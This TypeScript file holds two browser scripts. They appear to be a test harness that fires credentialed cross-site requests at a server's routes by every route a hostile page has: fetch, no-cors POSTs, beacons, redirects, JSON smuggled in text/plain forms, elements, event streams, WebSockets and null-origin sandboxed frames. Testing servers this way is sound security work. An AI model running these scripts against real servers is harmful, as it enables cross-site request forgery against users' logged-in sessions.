/** One route of a server under attack. */
export interface Target {
  /** In upper case. */
  readonly method: string;
  readonly url: string;
  /** A body that the route takes, as JSON. */
  readonly json: string;
  /** Whether scripts alone send requests to it, and not forms and elements too. */
  readonly byScript?: boolean;
}

/** What the page's script is given. */
export interface Attack {
  readonly targets: readonly Target[];
  /** Answers `/redirect?to=` with a redirect that keeps method and body; `undefined`: that is not tried. */
  readonly site: string | undefined;
  /** `fetch`: each target is asked for once, by the request that the page is least hindered in. Default: `all`. */
  readonly ways?: "all" | "fetch";
  /** Default: `include`. */
  readonly credentials?: "include" | "omit";
}

/**
 * Runs on a hostile page and tries every way in which a page can send a request. Returns what it could read; most ways
 * tell a page nothing, so the caller must watch the servers too. Written as text: TypeScript knows no `document` here.
 */
export const ATTACK = `async ({ targets, site, ways = "all", credentials = "include" }) => {
  const read = [];
  const note = (way, target, found) => read.push(way + " " + target.method + " " + target.url + ": " + found);
  const quiet = (promise) => promise.catch(() => {});
  const later = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
  /** Resolves when an element has loaded or failed. */
  const settled = (element) => new Promise((resolve) => {
    element.onload = () => resolve("loaded");
    element.onerror = () => resolve(undefined);
  });
  const withLimit = (promise) => Promise.race([promise, later(3000)]);

  const text = async (way, target, init) => {
    const signal = AbortSignal.timeout(3000);
    const answer = await fetch(target.url, { credentials, signal, ...init });
    if (answer.type !== "opaque") note(way, target, answer.status + " " + (await answer.text()).slice(0, 400));
  };
  const fields = ({ json }) => {
    const form = new FormData();
    form.append("purpose", "batch");
    form.append("file", new File([json], "hostile.jsonl"));
    form.append("query", "hostile form");
    return form;
  };
  const byFetch = async (target) => {
    const { method, json } = target;
    const headers = { "content-type": "application/json" };
    await quiet(text("fetch", target, method === "GET" ? { method } : { method, headers, body: json }));
    if (ways === "fetch") return;
    // Without asking first, a page can only GET and POST.
    if (method !== "POST") return void (await quiet(text("fetch no-cors", target, { mode: "no-cors" })));
    const bodies = [json, new URLSearchParams({ query: "hostile form" }), fields(target), undefined];
    for (const body of bodies) {
      await quiet(text("fetch no-cors", target, { method: "POST", mode: "no-cors", body }));
    }
    navigator.sendBeacon(target.url, json);
    if (site === undefined) return;
    const url = site + "/redirect?to=" + encodeURIComponent(target.url);
    await quiet(text("redirect", { ...target, url }, { method: "POST", mode: "no-cors", body: json }));
  };

  const FORM_TYPES = ["application/x-www-form-urlencoded", "multipart/form-data", "text/plain"];
  const byForm = async (target, enctype) => {
    const frame = Object.assign(document.createElement("iframe"), { name: "frame-" + Math.random() });
    const form = Object.assign(document.createElement("form"), {
      method: "POST", action: target.url, enctype, target: frame.name,
    });
    // As text/plain this body is JSON: the name holds all but its end.
    const pairs = enctype === "text/plain"
      ? [[target.json.replace(/}$/, ',"x":"'), '"}']]
      : [["query", "hostile form"], ["purpose", "batch"], ["_method", "DELETE"]];
    for (const [name, value] of pairs) {
      form.append(Object.assign(document.createElement("input"), { name, value }));
    }
    document.body.append(frame, form);
    const loaded = settled(frame);
    form.submit();
    await withLimit(loaded);
    lookInto(frame, "form", target);
    frame.remove();
    form.remove();
  };
  const lookInto = (frame, way, target) => {
    try {
      const found = frame.contentDocument?.body?.innerText;
      if (found) note(way, target, found.slice(0, 200));
    } catch {} // of another origin
  };

  const ELEMENTS = { img: "src", script: "src", iframe: "src", link: "href", object: "data", video: "src" };
  const byElement = async (target, kind) => {
    const element = document.createElement(kind);
    if (kind === "link") element.rel = "stylesheet";
    const loaded = settled(element);
    if (kind === "video") element.onloadedmetadata = () => note(kind, target, "loaded");
    element[ELEMENTS[kind]] = target.url;
    document.body.append(element);
    const found = await withLimit(loaded);
    // A frame that may not be shown loads an error page.
    if (kind === "iframe" || kind === "object") lookInto(element, kind, target);
    else if (found) note(kind, target, found);
    element.remove();
  };
  const byEvents = async (target) => {
    const events = new EventSource(target.url, { withCredentials: true });
    await withLimit(new Promise((resolve) => {
      events.onopen = () => resolve(note("EventSource", target, "opened"));
      events.onerror = resolve;
    }));
    events.close();
  };
  const bySocket = async (target) => {
    const url = new URL(target.url, location.href).href;
    const socket = new WebSocket(url.replace(/^http/, "ws"));
    await withLimit(new Promise((resolve) => {
      socket.onopen = () => resolve(note("WebSocket", target, "opened"));
      socket.onerror = resolve;
    }));
    socket.close();
  };

  // Elements, streams and sockets always GET, so one attempt covers all methods of a path.
  const paths = new Set();
  // Browsers delay further sockets to a server that has refused one; what these elements do, others do as well.
  const rare = new Set();
  const isFirst = (known, value) => !known.has(value) && known.add(value);
  const attack = async (target) => {
    await byFetch(target);
    if (target.byScript || ways === "fetch") return;
    for (const type of target.method === "POST" ? FORM_TYPES : []) await byForm(target, type);
    if (isFirst(paths, target.url)) {
      for (const kind of ["img", "script", "iframe"]) await byElement(target, kind);
      await byEvents(target);
    }
    if (isFirst(rare, new URL(target.url, location.href).origin)) {
      for (const kind of ["link", "object", "video"]) await byElement(target, kind);
      await bySocket(target);
    }
  };
  const left = [...targets];
  const lane = async () => {
    for (let target = left.shift(); target; target = left.shift()) await attack(target);
  };
  await Promise.all(Array.from({ length: 6 }, lane)); // browsers open six connections to a server
  return read;
}`;

/** What a page without an origin can do: that of a frame in a sandbox, whose requests have \`Origin: null\`. */
export const SANDBOXED = `async (targets) => {
  const frame = document.createElement("iframe");
  frame.sandbox = "allow-scripts allow-forms";
  const text = JSON.stringify(targets).replaceAll("<", "\\\\u003c");
  frame.srcdoc = "<script>(async () => { const read = [];" +
    "for (const { method, url, json } of " + text + ") {" +
    "const init = method === 'GET' ? { method } : { method: 'POST', mode: 'no-cors', body: json };" +
    "await fetch(url, { ...init, credentials: 'include' }).then(async (answer) => {" +
    "if (answer.type !== 'opaque') read.push(url + ' ' + await answer.text()); }, () => {}); }" +
    "parent.postMessage(read, '*'); })()</" + "script>";
  const answered = new Promise((resolve) => addEventListener("message", ({ data }) => resolve(data), { once: true }));
  document.body.append(frame);
  return answered;
}`;
